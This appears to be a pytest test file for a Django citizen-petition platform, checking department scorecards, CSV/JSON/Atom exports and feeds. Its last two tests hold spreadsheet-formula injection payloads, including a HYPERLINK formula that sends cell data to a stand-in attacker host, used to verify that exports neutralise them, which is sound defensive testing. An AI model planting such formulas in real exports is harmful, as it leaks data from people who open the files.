"""Departments' public scorecards, and the open data: CSV, JSON and Atom."""

import csv
import io
import json
import xml.etree.ElementTree as ET

import pytest
from django.urls import reverse

from petitions.services import case_submit
from responses import services
from supervision.services import feedback_give
from tests.factories import CategoryFactory, RoutingRuleFactory
from tests.publication.conftest import answered_case, publish

pytestmark = pytest.mark.django_db
ATOM = "{http://www.w3.org/2005/Atom}"


@pytest.fixture
def handled(department, official, citizen, category, region):
    """Two cases the department signed for and answered in time; the
    citizens rated one satisfied and resolved, the other unsatisfied and not
    resolved (without asking to re-handle); a third still waits for signing."""
    RoutingRuleFactory(category=category, lead_department=department)
    cases = []
    for title in ("夜间施工噪音扰民", "小区垃圾无人清运", "路灯不亮"):
        case, _ = case_submit(actor=citizen, kind="complaint", category=category, region=region, title=title,
                              body="请尽快处理这个问题。", contact_email=citizen.email, wants_public=True)
        services.case_route(case_id=case.id)
        cases.append(case)
    for case in cases[:2]:
        services.case_sign_for(actor=official, case_id=case.id)
        services.case_reply(actor=official, case_id=case.id, body="已经处理完毕。")
    feedback_give(actor=citizen, case_id=cases[0].id, resolved=True, satisfaction="satisfied")
    feedback_give(actor=citizen, case_id=cases[1].id, resolved=False, satisfaction="unsatisfied")
    return cases


def test_scorecard_shows_the_departments_rates(client, handled, department, moderator):
    publish(handled[0], moderator)
    page = client.get(reverse("publication:department_detail", args=[department.code])).content.decode()
    # 2 of 2 sign-fors that came due signed for in time (the third case
    # waits, not yet due: in no rate); 2 of 2 replies on time; 1 of 2 rated
    # cases resolved; 1 of 2 satisfied.
    assert 'id="rate-response">100.0%' in page
    assert 'id="rate-on-time">100.0%' in page
    assert 'id="rate-resolution">50.0%' in page
    assert 'id="rate-satisfaction">50.0%' in page
    assert "<svg" in page and "夜间施工噪音扰民" in page and "小区垃圾无人清运" not in page


def test_department_list_links_to_scorecards(client, handled, department, other_department,
                                             django_assert_max_num_queries):
    with django_assert_max_num_queries(12):
        page = client.get(reverse("publication:department_list")).content.decode()
    assert reverse("publication:department_detail", args=[department.code]) in page
    assert reverse("publication:department_detail", args=[other_department.code]) in page
    assert "100.0%" in page and "66.7%" not in page


def test_unknown_department_is_404(client):
    assert client.get(reverse("publication:department_detail", args=["no-such"])).status_code == 404


def test_rates_as_csv_and_json(client, handled, department):
    rows = list(csv.DictReader(io.StringIO(
        client.get(reverse("publication:rates_export", args=["csv"])).content.decode("utf-8-sig"))))
    row = next(row for row in rows if row["department_code"] == department.code)
    assert (row["response_rate"], row["on_time_rate"], row["resolution_rate"], row["satisfaction_rate"]) == (
        "100.0", "100.0", "50.0", "50.0")
    records = json.loads(client.get(reverse("publication:rates_export", args=["json"])).content)
    record = next(record for record in records if record["department_code"] == department.code)
    assert (record["dispatched"], record["sign_for_due"], record["satisfaction_rate"]) == (3, 2, 50.0)


def test_a_department_whose_cases_are_not_yet_due_shows_no_rate(client, department, citizen, category, region):
    """Every case still waiting to be signed for, none due: the scorecard
    and the open data say "no rate", not 0 %."""
    RoutingRuleFactory(category=category, lead_department=department)
    case, _ = case_submit(actor=citizen, kind="complaint", category=category, region=region, title="路灯不亮",
                          body="请尽快处理这个问题。", contact_email=citizen.email)
    services.case_route(case_id=case.id)
    page = client.get(reverse("publication:department_detail", args=[department.code])).content.decode()
    assert 'id="rate-response">—' in page and 'id="rate-on-time">—' in page and "0.0%" not in page
    listing = client.get(reverse("publication:department_list")).content.decode()
    assert "0.0%" not in listing
    records = json.loads(client.get(reverse("publication:rates_export", args=["json"])).content)
    record = next(record for record in records if record["department_code"] == department.code)
    assert (record["dispatched"], record["sign_for_due"], record["response_rate"]) == (1, 0, None)


@pytest.fixture
def published(make_public):
    return [make_public("夜间施工噪音扰民", "每晚都在施工，\"很吵\"。", "已责令停止。"),
            make_public("Construction noise at night", "Trucks, every night.")]


def streamed(response):
    assert response.streaming
    return b"".join(response.streaming_content).decode("utf-8-sig")


def test_cases_as_csv(client, published):
    rows = list(csv.DictReader(io.StringIO(streamed(client.get(reverse("publication:cases_export", args=["csv"]))))))
    assert [row["title"] for row in rows] == ["Construction noise at night", "夜间施工噪音扰民"]
    chinese = rows[1]
    assert chinese["details"] == "每晚都在施工，\"很吵\"。" and chinese["answer"] == "已责令停止。"
    assert chinese["author"] == "A citizen" and chinese["status"] == "answered"
    assert chinese["url"].endswith(reverse("publication:case_detail", args=[published[0].case.tracking_number]))


def test_cases_as_json_follow_the_list_filters(client, published):
    records = json.loads(streamed(client.get(reverse("publication:cases_export", args=["json"]), {"q": "噪音"})))
    assert [record["title"] for record in records] == ["夜间施工噪音扰民"]
    assert records[0]["tracking_number"] == published[0].case.tracking_number
    assert records[0]["answered_at"] is not None


def test_cases_export_reads_in_a_fixed_number_of_queries(client, make_public, django_assert_num_queries):
    for number in range(5):
        make_public(f"问题{number}", "内容内容内容。")
    with django_assert_num_queries(1):
        streamed(client.get(reverse("publication:cases_export", args=["json"])))


def test_unknown_format_is_404(client):
    assert client.get(reverse("publication:cases_export", args=["xml"])).status_code == 404
    assert client.get(reverse("publication:rates_export", args=["xlsx"])).status_code == 404


def test_department_feed_lists_its_new_public_cases(client, published, department, other_department, moderator):
    other = publish(answered_case(department=other_department, title="别的部门的问题", body="内容内容内容。"),
                    moderator)
    response = client.get(reverse("publication:department_feed", args=[department.code]))
    assert response["Content-Type"].startswith("application/atom+xml")
    feed = ET.fromstring(response.content)
    titles = [entry.find(f"{ATOM}title").text for entry in feed.findall(f"{ATOM}entry")]
    assert titles == ["Construction noise at night", "夜间施工噪音扰民"]
    assert other.title not in response.content.decode()
    summary = feed.findall(f"{ATOM}entry")[1].find(f"{ATOM}summary").text
    assert "&quot;很吵&quot;" in summary and "已责令停止。" in summary


def test_category_feed_includes_sub_categories(client, department, moderator):
    parent = CategoryFactory(name="城市管理")
    child = CategoryFactory(name="噪音", parent=parent)
    publish(answered_case(department=department, title="子类别的问题", body="内容内容内容。", category=child),
            moderator)
    publish(answered_case(department=department, title="别的类别", body="内容内容内容。"), moderator)
    content = client.get(reverse("publication:category_feed", args=[parent.code])).content.decode()
    assert "子类别的问题" in content and "别的类别" not in content
    assert client.get(reverse("publication:category_feed", args=["no-such"])).status_code == 404


def test_cases_as_csv_cannot_carry_spreadsheet_formulas(client, make_public):
    make_public('=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1 to this. @everyone -- agree",
                "-2 people answered\tthis")
    rows = list(csv.DictReader(io.StringIO(streamed(client.get(reverse("publication:cases_export", args=["csv"]))))))
    assert rows[0]["title"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert rows[0]["details"] == "'+1 to this. @everyone -- agree"
    assert rows[0]["answer"] == "'-2 people answered\tthis"
    # JSON is not read by spreadsheets: the text stays as published.
    records = json.loads(streamed(client.get(reverse("publication:cases_export", args=["json"]))))
    assert records[0]["title"].startswith("=HYPERLINK")


def test_supervision_exports_cannot_carry_spreadsheet_formulas():
    from openpyxl import load_workbook

    from supervision.exports import write_csv, write_xlsx

    rows = [["@SUM(1+1)", -3, "\t=1+1", "\r=1", "plain", "中文=1"]]
    assert list(csv.reader(io.StringIO(write_csv(["a", "b", "c", "d", "e", "f"], rows).decode("utf-8-sig"))))[1] == [
        "'@SUM(1+1)", "-3", "'\t=1+1", "'\r=1", "plain", "中文=1"]
    sheet = load_workbook(io.BytesIO(write_xlsx(["a"] * 6, rows, "t"))).active
    values = [cell.value for cell in list(sheet.iter_rows(min_row=2))[0]]
    assert values[0] == "'@SUM(1+1)" and values[1] == -3 and values[2] == "'\t=1+1"
    assert sheet.cell(row=2, column=1).data_type == "s"
